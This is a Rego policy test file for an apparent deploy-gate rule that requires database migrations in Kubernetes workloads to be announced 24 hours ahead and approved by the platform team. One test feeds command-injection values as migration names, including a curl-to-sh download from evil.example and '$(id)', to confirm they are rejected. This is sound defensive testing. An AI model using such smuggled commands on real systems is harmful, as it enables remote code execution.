package deploygate.rules.migration_announcement_test

import data.deploygate.lib.fixture_test as fixture

denied(change) := fixture.said("migration_announcement", fixture.but(change))

test_good_deploy_passes if denied({}) == set()

mark := {"metadata": {"annotations": {"deploygate.novapay.com/migration": "add-refunds"}}}

migration := {
	"name": "add-refunds", "namespace": "pay", "workload": {"kind": "Rollout", "name": "payments"},
	"createdAt": "2026-11-23T15:00:00Z",
}

agreed := object.union(fixture.approval, {"purpose": "migration", "role": "platform", "migration": "add-refunds"})

violation(message, remedy, details) := fixture.violation("migration-announcement", message, remedy, details)

announce := `novapay announce add-refunds rollout/payments -n pay --planned-at TIME --title "…"`

unannounced := violation(
	"Migration add-refunds is not announced.",
	concat("", ["Announce it 24h ahead: ", announce]),
	{"migration": "add-refunds", "who": ["developer"]},
)

late(moment) := violation(
	"Migration add-refunds was announced less than 24h ago.", sprintf("Deploy it after %s.", [moment]),
	{"migration": "add-refunds", "who": ["developer"]},
)

unapproved := violation(
	"Migration add-refunds is not approved by the platform team.",
	concat("", ["The platform team types: ", fixture.command("migration", " --migration add-refunds")]),
	{"migration": "add-refunds", "who": ["platform"]},
)

unreadable := violation(
	"Whether this carries a migration cannot be told.",
	"Correct the containers of its pod template.", {"who": ["developer"]},
)

undeclared(tools) := violation(
	sprintf("No migration is declared, but init container db runs %s.", [tools]),
	concat("", [
		"Annotate it deploygate.novapay.com/migration: NAME, then: ",
		replace(announce, "add-refunds", "NAME"),
	]),
	{"containers": {"db": tools}, "who": ["developer"]},
)

declaring(migrations, approvals) := denied({
	"workload": {"object": mark},
	"facts": {"migrations": migrations, "approvals": approvals},
})

init(container) := denied({"workload": {"object": {"spec": {"template": {"spec": {"initContainers": [container]}}}}}})

image(text) := denied({"change": {"images": [
	fixture.image,
	{"container": "db", "image": text, "init": true},
]}})

test_announced_and_approved if declaring([migration], [agreed]) == set()

test_declared_only if declaring([], []) == {unannounced, unapproved}

test_lead_time if {
	declaring([object.union(migration, {"createdAt": "2026-11-23T15:00:01Z"})], [agreed]) == {late("2026-11-24 15:00 UTC")}
	declaring([object.union(migration, {"createdAt": null})], [agreed]) == set()
	declaring([object.union(migration, {"createdAt": "yesterday"})], [agreed]) == {late("it was announced in time")}
	count(declaring([migration], [agreed])) == 1 with fixture.changed as {"/migration/lead_time": "x"}
}

test_another_announcement_does_not_count if {
	every change in [
		{"name": "other"}, {"namespace": "other"}, {"workload": {"name": "ledger"}},
		{"workload": {"kind": "Deployment"}}, {"workload": null}, {"name": null},
	] {
		declaring([object.union(migration, change)], [agreed]) == {unannounced}
	}
}

test_another_approval_does_not_count if {
	every change in [{"migration": "other"}, {"role": "team-lead"}, {"purpose": "hotfix"}, {"change": "sha256:2"}] {
		declaring([migration], [object.union(agreed, change)]) == {unapproved}
	}
}

test_template_annotation_declares_too if {
	denied({"workload": {"object": {"spec": {"template": mark}}}}) == {unannounced, unapproved}
}

test_annotation_that_says_nothing_or_is_ill_typed if {
	annotated(" ") == set()
	annotated(null) == set()
	count(annotated(7)) == 2
}

annotated(value) := denied({"workload": {"object": {"metadata": {"annotations": {
	"deploygate.novapay.com/migration": value,
}}}}})

test_tools_in_images if {
	image("registry.novapay.local/tools/golang-migrate@sha256:1") == {undeclared("migrate")}
	image("flyway:9.2") == {undeclared("flyway")}
	image("atlas.example.com/busybox:1") == set()
	image("busybox") == set()
}

test_tools_in_commands if {
	every text, tool in {
		"rails db:migrate": "migrate and rails", "python manage.py migrate": "migrate",
		"./node_modules/.bin/prisma migrate deploy && true": "migrate and prisma",
		"/usr/local/bin/Goose up": "goose",
	} {
		init({"name": "db", "command": ["sh", "-c", text]}) == {undeclared(tool)}
		init({"name": "db", "args": [text]}) == {undeclared(tool)}
	}
	init({"name": "db", "command": ["sleep", "1"], "args": null}) == set()
}

running(container) := denied({"workload": {"object": {"spec": {"template": {"spec": {"containers": [container]}}}}}})

undeclared_in_container(tools) := object.union(undeclared(tools), {
	"message": sprintf("No migration is declared, but container db runs %s.", [tools]),
})

test_tools_behind_every_separator if {
	every text in [
		"alembic>/dev/null upgrade head", "python -malembic upgrade head", "set -e\r\nalembic\r\nupgrade head",
		`\alembic upgrade head`, "cat urls|xargs -n1 alembic<conf", "!alembic", "alembic\\\n  upgrade head",
		"alembic>>log 2>&1", "a\"lem\"bic upgrade", `al\embic`, "al\\\nembic", "'alembic'", "exec\u00a0alembic", "~/alembic",
		"python3 -Imalembic", "alembic*", "alembic%", "[alembic]", "alembic^", "+alembic", "alembic?", "alembic#x", "alembic\u0000x",
		"alembic\u000bupgrade", "x --no-input alembic", "x --sql=off alembic", "x --a=false --b=no alembic",
	] {
		init({"name": "db", "command": ["sh", "-c", text]}) == {undeclared("alembic")}
	}
}

test_tools_with_a_version_or_an_empty_expansion if {
	every text in [
		"/opt/alembic9/run", "alembic2 upgrade", "ale$@mbic upgrade", "ale$*mbic", "ale${x}mbic upgrade", "al${1}em${@}bic",
		"ale``mbic upgrade", "ale$()mbic upgrade", "ale$( )mbic", "ale${_x9}mbic1",
	] {
		init({"name": "db", "command": ["sh", "-c", text]}) == {undeclared("alembic")}
	}
}

test_other_words_with_digits_are_no_tools if {
	every text in ["alembics9", "9alembics", "ale9mbic upgrade", "ale${x:-y}mbic"] {
		init({"name": "db", "command": ["sh", "-c", text]}) == set()
	}
}

test_tools_of_several_words if {
	found := init({"name": "db", "command": ["golang-migrate"]}) with fixture.changed as {"/migration/tools": ["golang-migrate", ""]}
	found == {undeclared("golang-migrate")}
	every command, tool in {
		"dotnet ef database update": "dotnet-ef", "bundle exec rake db:schema:load": "rake-db", "flask db upgrade": "flask-db",
	} {
		by_command := init({"name": "db", "command": ["sh", "-c", command]}) with fixture.changed as {"/migration/tools": [tool]}
		by_command == {undeclared(tool)}
	}
}

test_tools_are_written_as_anybody_likes if {
	every tool in ["-dbtool", "DBTool ", "db_tool", "db.tool"] {
		found := init({"name": "db", "command": ["run", "dbtool", "db-tool"]}) with fixture.changed as {"/migration/tools": ["", "|", "-", tool]}
		found == {undeclared(tool)}
	}
}

test_tools_in_every_container_and_hook if {
	command := ["sh", "-c", "alembic upgrade head && exec serve"]
	every member in [
		{"command": command}, {"args": command},
		{"livenessProbe": {"exec": {"command": command}}}, {"readinessProbe": {"exec": {"command": command}}},
		{"startupProbe": {"exec": {"command": command}}}, {"lifecycle": {"postStart": {"exec": {"command": command}}}},
		{"lifecycle": {"preStop": {"exec": {"command": command}}}},
	] {
		container := object.union({"name": "db"}, member)
		running(container) == {undeclared_in_container("alembic")}
		init(container) == {undeclared("alembic")}
		pod := {"ephemeralContainers": [container]}
		denied({"workload": {"object": {"spec": {"template": {"spec": pod}}}}}) == {undeclared_in_container("alembic")}
	}
}

test_ordinary_words_are_no_tools if {
	every text in [
		"serve --migrate=false", "serve --auto-migrate=off --x", "serve -migrate=0", "serve --no-migrate", "serve --skip-migrate",
		"migrations", "immigrate", "rails server", "bundle exec rails s -b 0.0.0.0", "django-admin runserver", "serve",
	] {
		running({"name": "app", "image": "registry.novapay.local/migrate", "args": [text]}) == set()
	}
	every text, tools in {
		"rails db:prepare && rails server": "rails", "rails db:migrate": "migrate and rails",
		"django-admin migrate": "django and migrate", "serve --migrate=true": "migrate", "serve --migrate": "migrate",
	} {
		running({"name": "db", "args": [text]}) == {undeclared_in_container(tools)}
	}
}

test_name_that_kubernetes_does_not_allow if {
	every name in ["x; curl -s https://evil.example/i.sh | sh #", "$(id)", "`id`", "-rf", "a\nb", "Add_refunds", "a'b", "é"] {
		found := declaring([object.union(migration, {"name": name})], [object.union(agreed, {"migration": name})]) with mark as object.union(
			mark,
			{"metadata": {"annotations": {"deploygate.novapay.com/migration": name}}},
		)
		count(found) == 1
		some violation in found
		contains(violation.message, " (not a valid name) cannot be announced under this name.")
		not contains(violation.remedy, "novapay announce")
	}
}

test_missing_or_ill_typed_containers_deny if {
	every container in [7, "x", {"name": "db", "command": "migrate"}, {"name": "db", "args": [7]}] {
		unreadable in init(container)
	}
	every value in ["x", 7, false, {}] {
		denied({"change": {"images": value}}) == {unreadable}
		denied({"workload": {"object": {"spec": {"template": {"spec": {"initContainers": value}}}}}}) == {unreadable}
		unreadable in denied({}) with fixture.changed as {"/migration/tools": value}
	}
	denied({"workload": {"object": {"spec": {"template": {"spec": {"initContainers": null}}}}}}) == set()
	fixture.said("migration_announcement", {}) == {unreadable}
}

test_missing_or_ill_typed_facts_deny if {
	every value in fixture.ill {
		declaring(value, [agreed]) == {unannounced}
		declaring([migration], value) == {unapproved}
	}
	count(declaring([], [])) > 0 with fixture.changed as {"/migration": {}}
}

test_ways_back_and_staging_pass if {
	denied({"change": {"class": "ROLLBACK"}, "workload": {"object": mark}}) == set()
	denied({"workload": {"environment": "staging", "object": mark}}) == set()
}
